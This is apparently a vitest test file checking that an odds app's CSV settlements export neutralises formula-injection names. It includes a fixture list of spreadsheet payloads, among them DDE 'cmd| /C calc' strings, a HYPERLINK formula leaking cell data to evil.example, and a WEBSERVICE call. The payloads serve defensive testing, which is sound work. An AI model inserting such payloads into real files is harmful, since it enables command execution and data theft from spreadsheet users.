// CSV exports with hostile names from the upstream: team, league, special and contestant names that a spreadsheet
// would run as formulas arrive as text cells with a leading apostrophe; numbers (negative ones too) stay numbers.
// Both the app's settlements export (streamed to a file) and `cli export --format csv` go through the one writer.
// Spreadsheets of other locales split lines at `;` or tab, not at our commas: no cell of any of those readings may
// start as a formula either (issue 36, "Why" 2).
import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Writable } from 'node:stream';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { exportSettlementsCsvToFile, writeSettlementsCsv } from '../src/core/export/csv';
import { openStore } from '../src/core/store';
import type { SettledEvent, SpecialTick } from '../src/shared/api';
import { csvField, csvRow } from '../src/shared/csv';
import { runCli } from './monitor/cliHarness';
import { settledEvent } from './store/gen';
import { parseCsv, readCsvAs } from './support/csv';

/** What a spreadsheet would evaluate: a cell starting with a formula character that is not a plain number. */
const startsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=1,2\r\n"x"',
  "x;=cmd|' /C calc'!A0",
  'a\t=1+1',
  'b;"=1+1";',
  'c\n@SUM(1)\r-1;',
];
const READINGS = [',', ';', '\t'] as const;

/** The cells of every locale's reading of `text` that a spreadsheet would evaluate. */
function formulaCells(text: string): { reading: string; cell: string }[] {
  return READINGS.flatMap((sep) =>
    readCsvAs(text, sep)
      .flat()
      .filter(startsAsFormula)
      .map((cell) => ({ reading: JSON.stringify(sep), cell })),
  );
}

/** `read` is `sent` with the writer's apostrophes only: at the start, or after a separator or line break. */
function readsAsSent(read: string, sent: string): boolean {
  let j = 0;
  for (let i = 0; i < read.length; i++) {
    if (j < sent.length && read[i] === sent[j]) j++;
    else if (read[i] !== "'" || (i > 0 && !/[,;\t\r\n]/.test(read[i - 1]!))) return false;
  }
  return j === sent.length;
}

function hostileSettlement(i: number, lineCount = 10): SettledEvent {
  const e = settledEvent(i, lineCount);
  return {
    ...e,
    runner_home: HOSTILE[i % HOSTILE.length]!,
    runner_away: HOSTILE[(i + 3) % HOSTILE.length]!,
    league_name: HOSTILE[(i + 5) % HOSTILE.length]!,
  };
}

function hostileSpecialTick(contestant: number, ts: string, maxWin: number): SpecialTick {
  return {
    event_id: 5,
    special_id: 70,
    special_name: '=WEBSERVICE("http://evil.example")',
    contestant_id: contestant,
    contestant_name: `@C${contestant}`,
    handicap: -1.5,
    odds: 3,
    todds: 3.1,
    period: 0,
    max_win: maxWin,
    cutoff: '2026-02-01T00:00:00',
    timestamp: ts,
    true_odds_by_model: null,
  };
}

describe('csv cells', () => {
  it('prefixes a text cell that starts like a formula, and leaves numbers as numbers', () => {
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('+44 20')).toBe("'+44 20");
    expect(csvField('-x')).toBe("'-x");
    expect(csvField('@A1')).toBe("'@A1");
    expect(csvField('\tx')).toBe(`"'\tx"`);
    expect(csvField('\r=x')).toBe(`"'\r'=x"`);
    expect(csvField('=a,"b"')).toBe(`"'=a,'""b"""`);
    expect(csvField("x;=cmd|' /C calc'!A0")).toBe(`"x;'=cmd|' /C calc'!A0"`);
    expect(csvField('a\t=1+1')).toBe(`"a\t'=1+1"`);
    expect(csvField('a;b')).toBe('"a;b"');
    expect(csvField('x;')).toBe(`"x;'"`);
    expect(csvField('Malmö FF')).toBe('Malmö FF');
    expect(csvField(-1.5)).toBe('-1.5');
    expect(csvField(0)).toBe('0');
    expect(csvField(Number.NaN)).toBe('');
    expect(csvField(null)).toBe('');
    expect(csvRow(['=x', -2, 'a,b'])).toBe(`'=x,-2,"a,b"\r\n`);
  });

  it('any text reads back as itself with apostrophes only where a cell could start, never as a formula, and rows stay rows', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary', maxLength: 30 }), { minLength: 1, maxLength: 6 }), (cells) => {
        const parsed = parseCsv(csvRow(cells));
        return (
          parsed.length === 1 &&
          parsed[0]!.length === cells.length &&
          parsed[0]!.every((read, k) => !/^[=+\-@\t\r]/.test(read) && readsAsSent(read, cells[k]!))
        );
      }),
      { numRuns: 1000 },
    );
  });

  it('no cell of a `,`, `;` or tab reading starts as a formula, whatever the text', () => {
    const piece = fc.constantFrom(',', ';', '\t', '\r', '\n', '\r\n', '"', "'", '=', '+', '-', '@', 'x', '1', ' ');
    const text = fc.array(piece, { maxLength: 12 }).map((p) => p.join(''));
    fc.assert(
      fc.property(
        fc.array(fc.oneof(text, fc.string({ unit: 'binary', maxLength: 20 })), { minLength: 1, maxLength: 5 }),
        (cells) => {
          const out = csvRow([7, ...cells]) + csvRow([8, ...[...cells].reverse()]);
          expect(formulaCells(out)).toEqual([]);
        },
      ),
      { numRuns: 3000 },
    );
  });
});

describe('settlements export of the app (streamed to a file)', () => {
  it('writes hostile team and league names as text and scores as numbers, into the file the trader chose', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'oddsdesk-csv-'));
    const store = openStore({ path: path.join(dir, 'db.sqlite') });
    const events = Array.from({ length: 1200 }, (_, i) => hostileSettlement(i, 1));
    store.settlements.recordSettledPage(events, 0);
    const target = path.join(dir, 'settlements.csv');
    writeFileSync(target, 'an older export');
    const { rows, path: written } = await exportSettlementsCsvToFile(store, { limit: 5 }, target);
    store.close();
    expect(written).toBe(target);
    expect(rows).toBe(1200); // every page, not the first `limit`
    const table = parseCsv(readFileSync(target, 'utf8'));
    expect(table[0]).toEqual([
      'event_id',
      'sport_id',
      'league',
      'home',
      'away',
      'starts_utc',
      'settled_at_utc',
      'score_home',
      'score_away',
      'status',
      'lines',
      'ml_home',
      'ml_draw',
      'ml_away',
    ]);
    const body = table.slice(1);
    expect(body).toHaveLength(1200);
    const byId = new Map(events.map((e) => [String(e.event_id), e]));
    for (const row of body) {
      const e = byId.get(row[0]!)!;
      expect(
        readsAsSent(row[2]!, e.league_name) &&
          readsAsSent(row[3]!, e.runner_home) &&
          readsAsSent(row[4]!, e.runner_away),
        row.slice(2, 5).join(' | '),
      ).toBe(true);
      expect(row.every((cell) => !startsAsFormula(cell))).toBe(true);
      expect([row[7], row[8]]).toEqual([String(e.score_home), String(e.score_away)]);
    }
    expect(readdirSync(dir).filter((f) => f.includes('partial'))).toEqual([]);
  });

  it('opened in a `;` (or tab) locale, the export of hostile names has no cell that starts as a formula', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'oddsdesk-csv-'));
    const store = openStore({ path: path.join(dir, 'db.sqlite') });
    store.settlements.recordSettledPage(
      Array.from({ length: 60 }, (_, i) => hostileSettlement(i, 1)),
      0,
    );
    const target = path.join(dir, 'settlements.csv');
    await exportSettlementsCsvToFile(store, {}, target);
    store.close();
    const text = readFileSync(target, 'utf8');
    expect(
      readCsvAs(text, ';')
        .flat()
        .some((cell) => cell.includes('=cmd|')),
    ).toBe(true); // the hostile name is there
    expect(formulaCells(text)).toEqual([]);
  });

  it('waits for a slow destination instead of queueing the whole export in memory', async () => {
    const store = openStore({ path: ':memory:' });
    store.settlements.recordSettledPage(
      Array.from({ length: 8000 }, (_, i) => hostileSettlement(i, 1)),
      0,
    );
    let maxQueued = 0;
    let bytes = 0;
    const slow = new Writable({
      highWaterMark: 16 * 1024,
      write(chunk: Buffer, _enc, done) {
        bytes += chunk.length;
        setImmediate(done);
      },
    });
    const watch = setInterval(() => (maxQueued = Math.max(maxQueued, slow.writableLength)), 0);
    const origWrite = slow.write.bind(slow);
    slow.write = ((chunk: string) => {
      const r = origWrite(chunk);
      maxQueued = Math.max(maxQueued, slow.writableLength);
      return r;
    }) as typeof slow.write;
    const rows = await writeSettlementsCsv(store, {}, slow);
    clearInterval(watch);
    store.close();
    expect(rows).toBe(8000);
    expect(bytes).toBeGreaterThan(800_000);
    // One chunk (~64 KiB of text) in flight at most, whatever the export's size.
    expect(maxQueued).toBeLessThan(200 * 1024);
  });

  it('a destination that fails rejects the export; a failed file export leaves no half file and the old file as it was', async () => {
    const store = openStore({ path: ':memory:' });
    store.settlements.recordSettledPage(
      Array.from({ length: 3000 }, (_, i) => hostileSettlement(i, 1)),
      0,
    );
    let written = 0;
    const broken = new Writable({
      write(chunk: Buffer, _enc, done) {
        written += chunk.length;
        done(written > 100_000 ? Object.assign(new Error('no space left on device'), { code: 'ENOSPC' }) : undefined);
      },
    });
    await expect(writeSettlementsCsv(store, {}, broken)).rejects.toThrow('no space left');

    const dir = mkdtempSync(path.join(tmpdir(), 'oddsdesk-csv-'));
    const target = path.join(dir, 'settlements.csv');
    writeFileSync(target, 'an older export');
    let pages = 0;
    const failing = {
      settlements: {
        ...store.settlements,
        querySettlements: (q: Parameters<typeof store.settlements.querySettlements>[0]) => {
          if (++pages === 4) throw new Error('database is locked');
          return store.settlements.querySettlements(q);
        },
      },
    };
    await expect(exportSettlementsCsvToFile(failing, {}, target)).rejects.toThrow('database is locked');
    expect(readFileSync(target, 'utf8')).toBe('an older export');
    expect(readdirSync(dir)).toEqual(['settlements.csv']);
    await expect(exportSettlementsCsvToFile(store, {}, path.join(dir, 'missing-folder', 'x.csv'))).rejects.toThrow();
    expect(readdirSync(dir)).toEqual(['settlements.csv']);
    store.close();
  });
});

describe('cli export --format csv', () => {
  it('neutralises formula-like team, league, special and contestant names; lines and handicaps stay numbers', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'oddsdesk-csv-cli-'));
    const db = path.join(dir, 'rec.db');
    const store = openStore({ path: db });
    const events = Array.from({ length: 20 }, (_, i) => hostileSettlement(i));
    store.settlements.recordSettledPage(events, 0);
    store.odds.recordSpecialTicks([hostileSpecialTick(1, '2026-01-01T00:01:00', 100)]);
    store.odds.recordSpecialTicks([hostileSpecialTick(1, '2026-01-01T00:02:00', 250)]);
    store.close();

    const run = runCli(['export', 'settlements', '--format', 'csv', '--db', db]);
    expect(await run.exited, run.stderr()).toBe(0);
    const table = parseCsv(run.stdout());
    const header = table[0]!;
    const col = (name: string) => header.indexOf(name);
    const body = table.slice(1);
    expect(body).toHaveLength(events.reduce((n, e) => n + e.settlement.length, 0));
    for (const row of body) {
      expect(row.every((cell) => !startsAsFormula(cell))).toBe(true);
      const e = events.find((x) => String(x.event_id) === row[col('event_id')])!;
      const names = [row[col('league_name')]!, row[col('runner_home')]!, row[col('runner_away')]!];
      expect(
        readsAsSent(names[0]!, e.league_name) &&
          readsAsSent(names[1]!, e.runner_home) &&
          readsAsSent(names[2]!, e.runner_away),
        names.join(' | '),
      ).toBe(true);
    }
    expect(formulaCells(run.stdout())).toEqual([]);
    // Spread lines of -2.5 and -1.5 are numbers, written as such.
    const lines = body.map((r) => r[col('line')]!);
    expect(lines).toContain('-2.5');
    expect(lines).toContain('-1.5');

    const maxWin = runCli(['export', 'max-win', '--format', 'csv', '--db', db]);
    expect(await maxWin.exited, maxWin.stderr()).toBe(0);
    const mw = parseCsv(maxWin.stdout());
    const h = mw[0]!;
    expect(mw.length).toBeGreaterThan(1);
    for (const row of mw.slice(1)) {
      expect(row[h.indexOf('special_name')]).toBe(`'=WEBSERVICE("http://evil.example")`);
      expect(row[h.indexOf('contestant_name')]).toBe("'@C1");
    }
    expect(existsSync(db)).toBe(true);
  }, 60_000);
});
